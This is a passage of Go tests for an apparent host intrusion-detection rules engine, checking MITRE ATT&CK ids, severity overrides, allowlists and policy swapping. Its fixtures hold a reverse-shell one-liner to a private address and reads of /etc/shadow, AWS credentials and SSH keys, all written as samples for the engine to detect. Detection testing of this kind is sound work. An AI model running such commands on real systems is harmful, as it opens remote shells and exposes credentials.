		if d.Description == "" || d.Match == nil {
			t.Errorf("rule %s: no description or condition", d.Name)
		}
		if d.Name == "watched-path-modified" {
			continue // the user's own paths: no technique implied
		}
		if len(d.Mitre) == 0 {
			t.Errorf("rule %s: no MITRE ATT&CK technique", d.Name)
		}
		for _, id := range d.Mitre {
			if !mitreRE.MatchString(id) {
				t.Errorf("rule %s: MITRE id %q is not Txxxx or Txxxx.yyy", d.Name, id)
			}
		}
	}
	if !slices.Equal(rules.Names(), func() []string {
		var out []string
		for _, d := range rules.Builtin {
			out = append(out, d.Name)
		}
		return out
	}()) {
		t.Errorf("Names() = %q, not the built-in rules in order", rules.Names())
	}
}

func TestDefaultPolicyListsEveryRuleWithItsBuiltinSeverity(t *testing.T) {
	p := policy.Default(rules.Names())
	if len(p.Rules) != len(rules.Builtin) {
		t.Errorf("default.yaml has %d rules, the engine %d", len(p.Rules), len(rules.Builtin))
	}
	for _, d := range rules.Builtin {
		cfg := p.Rules[d.Name]
		if cfg == nil {
			t.Errorf("default.yaml does not list %s", d.Name)
			continue
		}
		if !cfg.Enabled {
			t.Errorf("default.yaml disables %s", d.Name)
		}
		if !cfg.HasSeverity || cfg.Severity != d.Severity {
			t.Errorf("%s: default.yaml severity %v (set %v), Go %v", d.Name, cfg.Severity, cfg.HasSeverity, d.Severity)
		}
	}
}

func mustParse(t *testing.T, yaml string) *policy.Policy {
	t.Helper()
	p, err := policy.Parse("test.yaml", []byte(yaml), rules.Names())
	if err != nil {
		t.Fatalf("parse policy: %v", err)
	}
	return p
}

func shadowRead(uid uint32, exe, parent string) record.Record {
	return openRec(child(proc(100, uid, exe), 90, parent), "/etc/shadow", watch.ClassCredentials, "read", 0)
}

func TestPolicyRaisingASeverityChangesTheRecordsSeverity(t *testing.T) {
	e := rules.NewEngine(mustParse(t, "rules:\n  credential-read:\n    severity: critical\n"))
	r := shadowRead(1000, "/usr/bin/cat", "/usr/bin/bash")
	e.Evaluate(&r)
	if got := ruleNames(&r); !slices.Equal(got, []string{"credential-read"}) {
		t.Fatalf("rules = %q, want credential-read", got)
	}
	if r.Severity != record.Critical || r.Rules[0].Severity != record.Critical {
		t.Errorf("severity = %v (rule %v), want critical", r.Severity, r.Rules[0].Severity)
	}
}

func TestPolicyLoweringASeverityLowersTheRecord(t *testing.T) {
	e := rules.NewEngine(mustParse(t, "rules:\n  reverse-shell:\n    severity: info\n"))
	r := execRec(proc(100, 1000, "/usr/bin/bash", "bash", "-c", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"))
	e.Evaluate(&r)
	if got := ruleNames(&r); !slices.Equal(got, []string{"reverse-shell"}) {
		t.Fatalf("rules = %q, want reverse-shell", got)
	}
	if r.Severity != record.Info {
		t.Errorf("severity = %v, want info", r.Severity)
	}
}

func TestPolicyDisabledRuleIsSilent(t *testing.T) {
	e := rules.NewEngine(mustParse(t, "rules:\n  credential-read:\n    enabled: false\n"))
	r := shadowRead(1000, "/usr/bin/cat", "/usr/bin/bash")
	e.Evaluate(&r)
	if len(r.Rules) != 0 || r.Severity != record.Info {
		t.Errorf("rules = %q severity %v, want none and info", ruleNames(&r), r.Severity)
	}
}

func TestPolicyLeavingARuleOutKeepsItsBuiltinSeverityAndNoAllowlist(t *testing.T) {
	e := rules.NewEngine(mustParse(t, ""))
	r := shadowRead(0, "/usr/bin/sudo", "/usr/bin/bash") // allowlisted by the default only
	e.Evaluate(&r)
	if got := ruleNames(&r); !slices.Equal(got, []string{"credential-read"}) || r.Severity != record.Warn {
		t.Errorf("rules = %q severity %v, want credential-read at warn", got, r.Severity)
	}
}

func TestPolicyGlobalAllowSilencesEveryRuleForTheExe(t *testing.T) {
	e := rules.NewEngine(mustParse(t, "allow:\n  exe: [/usr/bin/cat]\n"))
	for _, r := range []record.Record{
		shadowRead(1000, "/usr/bin/cat", "/usr/bin/bash"),
		execRec(proc(100, 1000, "/usr/bin/cat", "cat", "/home/alice/.aws/credentials")),
		inHome(openRec(proc(100, 1001, "/usr/bin/cat"), "/home/alice/.ssh/id_rsa", watch.ClassSSH, "read", 0), 1000),
	} {
		e.Evaluate(&r)
		if len(r.Rules) != 0 || r.Severity != record.Info {
			t.Errorf("%s of %s: rules = %q severity %v, want none", r.Event, r.Process.Args, ruleNames(&r), r.Severity)
		}
	}
	r := shadowRead(1000, "/usr/bin/head", "/usr/bin/bash")
	e.Evaluate(&r)
	if got := ruleNames(&r); !slices.Equal(got, []string{"credential-read"}) {
		t.Errorf("head reading /etc/shadow: rules = %q, want credential-read", got)
	}
}

func TestPolicyRuleAllowlistByUserAndParent(t *testing.T) {
	e := rules.NewEngine(mustParse(t, `rules:
  credential-read:
    allow:
      user: [0]
      parent: ["re:^/usr/sbin/"]
`))
	tests := []struct {
		name string
		rec  record.Record
		want []string
	}{
		{"root reading /etc/shadow", shadowRead(0, "/usr/bin/cat", "/usr/bin/bash"), nil},
		{"uid 1000 reading /etc/shadow", shadowRead(1000, "/usr/bin/cat", "/usr/bin/bash"), []string{"credential-read"}},
		{"started by /usr/sbin/cron", shadowRead(1000, "/usr/bin/cat", "/usr/sbin/cron"), nil},
		{"started by /usr/bin/cron-lookalike", shadowRead(1000, "/usr/bin/cat", "/usr/bin/cron"), []string{"credential-read"}},
		{"no known parent", func() record.Record {
			r := shadowRead(1000, "/usr/bin/cat", "/usr/bin/bash")
			r.Process.Ancestry = nil
			return r
		}(), []string{"credential-read"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			r := tt.rec
			e.Evaluate(&r)
			if got := ruleNames(&r); !slices.Equal(got, tt.want) {
				t.Errorf("rules = %q, want %q", got, tt.want)
			}
		})
	}
	// the allowlist is the rule's own: root still trips other rules
	r := execRec(proc(100, 0, "/usr/bin/cat", "cat", "/etc/shadow"))
	e.Evaluate(&r)
	if got := ruleNames(&r); !slices.Equal(got, []string{"credential-hunting"}) {
		t.Errorf("root's cat /etc/shadow: rules = %q, want credential-hunting", got)
	}
}

func TestSetPolicySwapsBetweenRecords(t *testing.T) {
	e := rules.NewEngine(policy.Default(rules.Names()))
	r := shadowRead(1000, "/usr/bin/cat", "/usr/bin/bash")
	e.Evaluate(&r)
	if r.Severity != record.Warn {
		t.Fatalf("default: severity %v, want warn", r.Severity)
	}
	p := mustParse(t, "rules:\n  credential-read:\n    severity: critical\n")
	e.SetPolicy(p)
	if e.Policy() != p {
		t.Fatal("Policy() is not the policy just set")
	}
	r = shadowRead(1000, "/usr/bin/cat", "/usr/bin/bash")
	e.Evaluate(&r)
	if r.Severity != record.Critical {
		t.Errorf("after SetPolicy: severity %v, want critical", r.Severity)
	}
}

func TestMonitorRecordsAndRecordsWithoutProcessAreNotJudged(t *testing.T) {
	e := rules.NewEngine(policy.Default(rules.Names()))
	r := shadowRead(1000, "/usr/bin/cat", "/usr/bin/bash")
	r.Category = record.CatMonitor
	e.Evaluate(&r)
	if len(r.Rules) != 0 {
		t.Errorf("monitor record: rules = %q, want none", ruleNames(&r))
	}
	r = shadowRead(1000, "/usr/bin/cat", "/usr/bin/bash")
	r.Process = nil
	e.Evaluate(&r) // must not panic
	if len(r.Rules) != 0 {
		t.Errorf("record without a process: rules = %q, want none", ruleNames(&r))
	}
}

func TestEvaluateKeepsAHigherSeverityAlreadySet(t *testing.T) {
	e := rules.NewEngine(policy.Default(rules.Names()))
	r := shadowRead(1000, "/usr/bin/cat", "/usr/bin/bash")
	r.Severity = record.Critical
	e.Evaluate(&r)
	if r.Severity != record.Critical {
		t.Errorf("severity = %v, want critical kept", r.Severity)
	}
}
